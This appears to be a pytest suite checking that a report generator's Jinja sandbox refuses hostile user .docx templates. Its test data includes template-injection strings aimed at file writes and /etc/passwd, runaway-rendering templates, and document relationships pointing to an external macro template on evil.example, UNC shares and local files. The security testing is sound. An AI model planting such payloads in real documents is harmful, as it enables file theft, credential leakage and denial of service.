"""The template sandbox holds by construction (issue 14): no library object within reach,
allow-listed filters and globals, a budget enforced while rendering, package parts refused."""

from __future__ import annotations

import io
import time
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from docx import Document
from jinja2 import StrictUndefined
from markupsafe import Markup

from reportgen.errors import RenderError
from reportgen.fileio import sha256_file
from reportgen.render import ReportOptions, lint_template, render_report
from reportgen.render.budget import MAX_OUTPUT_CHARS, BudgetExceeded
from reportgen.render.plain import Record, plain
from reportgen.render.sandbox import SafeSandbox, SecurityError
from tests.support import render_samples as rs
from tests.support.paths import TEMPLATES


def user_template(tmp_path: Path, *paragraphs: str, name: str = "user.docx") -> Path:
    doc = Document(TEMPLATES / "quarterly.docx")
    for text in paragraphs:
        doc.add_paragraph(text)
    path = tmp_path / name
    doc.save(path)
    return path


def refused(tmp_path: Path, template: Path, match: str | None = None) -> RenderError:
    out = tmp_path / "out" / "r.docx"
    with pytest.raises(RenderError, match=match) as caught:
        render_report(rs.result(), "quarterly", out, ReportOptions(template=template))
    assert not out.parent.exists() or not list(out.parent.iterdir())
    return caught.value


# ---------------------------------------------------------------- escapes through the context


def test_template_cannot_write_a_file(tmp_path):
    target = tmp_path / "written.docx"
    refused(tmp_path, user_template(tmp_path, f"{{{{ chart.tpl.save('{target}') }}}}"))
    assert not target.exists()


def test_template_cannot_save_through_python_docx(tmp_path):
    target = tmp_path / "written.docx"
    refused(tmp_path, user_template(tmp_path, f"{{{{ chart.tpl.docx.save('{target}') }}}}"))
    assert not target.exists()


def test_template_cannot_copy_a_file_into_the_report(tmp_path):
    attack = "{{ chart.tpl.replace_zipname('docProps/app.xml', '/etc/passwd') }}"
    refused(tmp_path, user_template(tmp_path, attack))


def test_template_cannot_overwrite_an_input(tmp_path):
    workbook = tmp_path / "填报.xlsx"
    workbook.write_bytes(b"PK original workbook")
    before = sha256_file(workbook)
    refused(tmp_path, user_template(tmp_path, f"{{{{ chart.tpl.save('{workbook}') }}}}"))
    assert sha256_file(workbook) == before


def test_template_cannot_reach_the_template_through_a_format_string(tmp_path):
    refused(tmp_path, user_template(tmp_path, "{{ '{0.tpl}'.format(chart) }}"))


def test_context_is_plain_data_and_placeholders():
    mapping = plain({"rows": [rs.result().indicators[0]], "n": 3})
    assert isinstance(mapping["rows"][0], Record)
    assert mapping["rows"][0].id == "I1"
    with pytest.raises(TypeError):
        plain(io.BytesIO())


def test_a_chart_is_a_plain_marker_string():
    from reportgen.render.report import context_mapping

    mapping, slots = context_mapping(*_context_and_result())
    assert slots and all(type(mapping[s.name]) is str for s in slots)
    assert all(_is_plain(value) for value in mapping.values())


def _context_and_result():
    from reportgen.render.context import Front, build_context

    result = rs.result()
    return build_context(result, "quarterly", Front()), result


def _is_plain(value: object) -> bool:
    if isinstance(value, Record):
        return all(_is_plain(value[k]) for k in vars(value))
    if isinstance(value, list):
        return all(_is_plain(v) for v in value)
    if isinstance(value, dict):
        return all(isinstance(k, str) and _is_plain(v) for k, v in value.items())
    return isinstance(value, str | int | float | type(None))


def test_a_record_exposes_its_fields_and_nothing_else():
    record = plain(rs.result().indicators[0])
    assert [name for name in dir(record) if not name.startswith("_")] == sorted(vars(record))
    assert "name" in record and record["name"] == record.name
    env = SafeSandbox(autoescape=True, undefined=StrictUndefined)
    for attack in ("{{ r.__class__ }}", "{{ r['__dict__'] }}", "{{ r.__getitem__ }}"):
        with pytest.raises(SecurityError):
            env.from_string(attack).render(r=record)


def test_plain_protects_text_at_any_depth():
    row = plain({"groups": [replace(rs.INDICATORS[0], name="a {_{ b")]})["groups"][0]
    assert str(row.name) == "a {&#95;{ b"
    assert plain("a_b") == "a_b" and type(plain(Markup("{_{"))) is Markup


def test_builtin_templates_get_records_of_fields_only():
    from reportgen.render.context import Row

    row = Row(*["甲"] * 9, False, *["乙"] * 5)
    assert plain(row, escaped=True) is row  # nothing but fields, nothing to escape
    escaped = plain(replace(row, name="<&>"), escaped=True)
    assert isinstance(escaped, Record) and escaped.name == "&lt;&amp;&gt;"
    assert isinstance(plain(row), Record)  # user templates always get Records
    figures = rs.result().indicators[0]  # has a method and a property
    assert isinstance(plain(figures, escaped=True), Record)


def test_record_fields_win_over_method_names():
    env = SafeSandbox(autoescape=True)
    group = plain(rs.result().indicators[0])
    assert env.from_string("{{ g.name }}").render(g=group) == group.name
    text = env.from_string("{% for k, v in d.items() %}{{ k }}{% endfor %}").render(d={"a": 1})
    assert text == "a"


# ---------------------------------------------------------------- allow-lists


@pytest.mark.parametrize(
    "tag",
    [
        "{{ lipsum(9999, False, 9999, 9999) }}",
        "{{ cycler(1).next }}",
        "{{ title|center(100000000) }}",
        "{{ title|indent(100000000) }}",
        "{{ title|wordwrap(1) }}",
        "{{ title|safe }}",
        "{{ title|tojson }}",
        "{{ title|xmlattr }}",
        "{{ title|filesizeformat }}",
    ],
)
def test_lint_refuses_what_is_not_allowed(tmp_path, tag):
    problems = lint_template(user_template(tmp_path, tag))
    assert problems and all("第" in p.where for p in problems), problems


def test_date_methods_beyond_the_allow_list_are_refused():
    env = SafeSandbox(autoescape=True)
    from datetime import date

    assert env.from_string("{{ d.year }}").render(d=date(2024, 1, 2)) == "2024"
    with pytest.raises(SecurityError):
        env.from_string("{{ d.today() }}").render(d=date(2024, 1, 2))


# ---------------------------------------------------------------- the budget, while rendering


def render_fast(source: str, **context: object) -> float:
    """Seconds taken to refuse ``source`` (it must be refused)."""
    env = SafeSandbox(autoescape=True)
    start = time.perf_counter()
    with pytest.raises((SecurityError, RecursionError)):
        env.from_string(source).render(**context)
    return time.perf_counter() - start


@pytest.mark.parametrize(
    "source",
    [
        "{{ ('%' ~ n ~ 's') % t }}",  # width known only while rendering
        "{{ ('{:>' ~ n ~ '}').format(t) }}",
        "{{ t|replace('', t)|replace('', t)|replace('', t) }}",
        "{{ t.replace('', t).replace('', t).replace('', t) }}",
        "{% set s = namespace(v=t * 1000) %}{% for i in range(40) %}"
        "{% set s.v = s.v ~ s.v %}{% endfor %}",
        "{{ ([t * 1000] * 1000)|join }}",
        "{{ (t * 1000).join([t * 1000] * 1000) }}",
        "{{ [1]|batch(100000000, 0)|list }}",
        "{{ [1]|slice(100000000)|list }}",
        "{% for a in range(9999) %}{% for b in range(9999) %}{% for c in range(9999) %}"
        "{% endfor %}{% endfor %}{% endfor %}",
        "{% for a in range(9999) %}{% for b in range(9999) %}{{ t }}{% endfor %}{% endfor %}",
        "{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}",
        "{% for x in xs recursive %}{{ loop(xs) }}{% endfor %}",
    ],
)
def test_budget_stops_runaway_templates_quickly(source):
    assert render_fast(source, n=10**9, t="x" * 100, xs=[1, 2]) < 5


def test_output_budget_counts_everything_printed():
    env = SafeSandbox(autoescape=True)
    per_item = MAX_OUTPUT_CHARS // 1000 + 1
    source = "{% for i in range(1000) %}{{ t }}{% endfor %}"
    with pytest.raises(BudgetExceeded, match="输出的文字"):
        env.from_string(source).render(t="x" * per_item)
    env.reset_budget()
    assert len(env.from_string(source).render(t="x")) == 1000


def test_time_budget():
    env = SafeSandbox(autoescape=True)
    env.reset_budget(seconds=0.2)
    source = "{% for a in range(9999) %}{% for b in xs|sort %}{% endfor %}{% endfor %}"
    start = time.perf_counter()
    with pytest.raises(BudgetExceeded):
        env.from_string(source).render(xs=list(range(9999)))
    assert time.perf_counter() - start < 2


def test_ordinary_templates_still_work():
    env = SafeSandbox(autoescape=True)
    source = (
        "{% set ns = namespace(n=0) %}{% for r in rows|selectattr('bold') %}"
        "{% set ns.n = ns.n + 1 %}{{ loop.index }}.{{ r.name|truncate(4, True, '…', 0) }}"
        "{{ '%.1f' % r.value }}{{ '{:>5}'.format(r.id) }}{% endfor %}{{ ns.n }}"
        "{{ rows|map(attribute='id')|join('、') }}{{ '、'.join(['a', 'b']) }}"
    )
    rows = [{"name": "计量标准建设", "value": 1.25, "id": "A", "bold": True}]
    assert env.from_string(source).render(rows=rows) == "1.计量标…1.2    A1Aa、b"


# ---------------------------------------------------------------- nesting and recursion


def test_deep_nesting_is_the_templates_error_with_location(tmp_path):
    deep = "{{ " + "(" * 400 + "1" + ")" * 400 + " }}"
    problems = lint_template(user_template(tmp_path, "正文", deep))
    assert any("嵌套" in p.message and "第" in p.where for p in problems), problems
    refused(tmp_path, user_template(tmp_path, deep, name="deep.docx"), match="嵌套")


def test_deep_blocks_across_paragraphs(tmp_path):
    paragraphs = ["{% if true %}"] * 300 + ["{% endif %}"] * 300
    problems = lint_template(user_template(tmp_path, *paragraphs))
    assert any("嵌套" in p.message for p in problems), problems[:3]


def test_self_calling_macro_is_found_by_lint(tmp_path):
    path = user_template(tmp_path, "{% macro f(n) %}{{ f(n) }}{% endmacro %}", "{{ f(1) }}")
    problems = lint_template(path)
    assert any("调用了自身" in p.message for p in problems), problems


# ---------------------------------------------------------------- package parts


def with_part(template: Path, rels_extra: str = "", parts: dict[str, bytes] | None = None) -> Path:
    """``template`` with relationships added to the document's rels and extra parts."""
    source = template.read_bytes()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == "word/_rels/document.xml.rels":
                body = body.replace(b"</Relationships>", rels_extra.encode() + b"</Relationships>")
            dst.writestr(info.filename, body)
        for name, body in (parts or {}).items():
            dst.writestr(name, body)
    path = template.with_name("parts_" + template.name)
    path.write_bytes(out.getvalue())
    return path


REL = '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"{}/>'


@pytest.mark.parametrize(
    ("rels", "parts"),
    [
        (
            REL.format("attachedTemplate", "http://evil.example/t.dotm", ' TargetMode="External"'),
            {},
        ),
        (REL.format("image", "file://///evil/share/x.png", ' TargetMode="External"'), {}),
        (REL.format("image", "\\\\evil\\share\\x.png", ' TargetMode="External"'), {}),
        (REL.format("hyperlink", "file:///etc/passwd", ' TargetMode="External"'), {}),
        (REL.format("aFChunk", "chunk.html", ""), {"word/chunk.html": b"<html/>"}),
        (REL.format("oleObject", "embeddings/oleObject1.bin", ""), {}),
        ("", {"word/vbaProject.bin": b"x"}),
        ("", {"word/activeX/activeX1.xml": b"<a/>"}),
    ],
)
def test_external_and_active_parts_are_refused(tmp_path, rels, parts):
    path = with_part(user_template(tmp_path, "正文"), rels, parts)
    with pytest.raises(RenderError, match="模板中不允许"):
        lint_template(path)
    refused(tmp_path, path, match="模板中不允许")


def test_web_hyperlinks_are_fine(tmp_path):
    rel = REL.format("hyperlink", "https://www.gov.cn/", ' TargetMode="External"')
    assert lint_template(with_part(user_template(tmp_path, "正文"), rel)) == []
